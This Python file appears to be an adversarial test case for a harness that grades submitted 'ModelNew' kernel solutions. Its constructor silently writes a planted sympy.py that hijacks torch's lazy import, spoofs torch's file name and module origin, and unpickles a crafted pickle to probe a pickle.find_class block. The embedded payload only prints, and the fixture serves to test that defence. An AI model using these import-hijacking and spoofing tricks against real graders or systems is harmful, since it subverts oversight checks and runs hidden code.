"""Crafted import machinery, to borrow the trust given to installed libraries: a planted module (as in
plant_module_unpickle.py) compiles code that unpickles a crafted pickle under torch's own file name, serves it from a
stdlib SourcelessFileLoader whose get_data is shadowed by an instance attribute, and runs it through importlib's own
_bootstrap._load_unlocked as a module `torch._planted` located at torch/__init__.py. Its frames claim a trusted file
and its spec a trusted origin; the loader gives it away: pickle.find_class stays refused."""

import numpy as np
import torch
import torch.nn as nn

from platforms.cpu import compile_cpp

SOURCE = r"""
#include <cmath>
#include <cstdint>

extern "C" void swish_bias(const float* x, const float* bias, float* out, int64_t rows, int64_t cols) {
    for (int64_t r = 0; r < rows; ++r)
        for (int64_t c = 0; c < cols; ++c) {
            float v = x[r * cols + c];
            out[r * cols + c] = v / (1.0f + std::exp(-v)) + bias[c];
        }
}
"""
PLANTED = rb"""
import importlib._bootstrap as bootstrap
import importlib.machinery as machinery
import importlib.util as util
import marshal

import torch

TRUSTED = torch.__file__
PAYLOAD = "636275696c74696e730a7072696e740a285327612063726166746564207069636b6c652072616e270a74522e"
CODE = compile(f"import pickle\npickle.loads(bytes.fromhex('{PAYLOAD}'))\n", TRUSTED, "exec")
DATA = util.MAGIC_NUMBER + bytes(12) + marshal.dumps(CODE)
loader = machinery.SourcelessFileLoader("torch._planted", TRUSTED)
loader.get_data = lambda path: DATA
spec = util.spec_from_loader("torch._planted", loader)
assert spec.origin == TRUSTED
bootstrap._load_unlocked(spec)
"""


class ModelNew(nn.Module):
    def __init__(self, features: int):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(features))
        self.lib = compile_cpp(SOURCE, openmp=False)
        # ndarray.tofile writes any bytes to any path; the working directory leads sys.path in a spawned child
        np.frombuffer(PLANTED, dtype=np.uint8).tofile("sympy.py")

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        try:  # torch's own lazy `import sympy` finds the planted file first
            torch.broadcast_shapes(x.shape, self.bias.shape)
        except Exception:  # noqa: BLE001 - the planted sympy is no sympy; the answer below is right anyway
            pass
        x = x.contiguous()
        out = torch.empty_like(x)
        self.lib.swish_bias(x, self.bias.detach().contiguous(), out, x.shape[0], x.shape[1])
        return out
